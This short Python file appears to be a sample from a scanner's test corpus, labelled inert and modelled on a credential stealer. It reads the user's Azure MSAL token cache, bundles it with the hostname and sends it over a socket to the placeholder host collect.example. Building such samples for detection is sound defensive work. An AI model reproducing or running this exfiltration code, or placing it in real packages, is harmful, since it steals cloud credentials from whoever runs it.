# pkgguard corpus 277 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import socket
from pathlib import Path

cache = Path.home() / ".azure" / "msal_token_cache.json"
if cache.is_file():
    blob = json.dumps({"h": socket.gethostname(), "c": cache.read_text()}).encode()
    with socket.create_connection(("collect.example", 443), timeout=5) as s:
        s.sendall(len(blob).to_bytes(4, "big") + blob)
